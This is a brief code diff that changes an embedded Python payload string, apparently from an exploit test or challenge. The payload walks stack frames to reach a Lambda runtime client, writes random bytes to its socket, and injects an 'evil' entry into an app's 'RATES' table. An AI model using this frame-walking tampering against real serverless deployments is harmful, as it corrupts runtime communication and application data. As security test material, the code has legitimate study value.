@@ -115,7 +115,7 @@ import struct
 frame = sys._getframe()
 while "lambda_runtime_client" not in frame.f_locals:
     frame = frame.f_back
-frame.f_locals["lambda_runtime_client"]._worker.sendall(os.urandom(64))
+frame.f_locals["lambda_runtime_client"]._work.socket.sendall(os.urandom(64))
 sys.modules["app"].RATES["evil"] = 1
 time.sleep(3)
 """
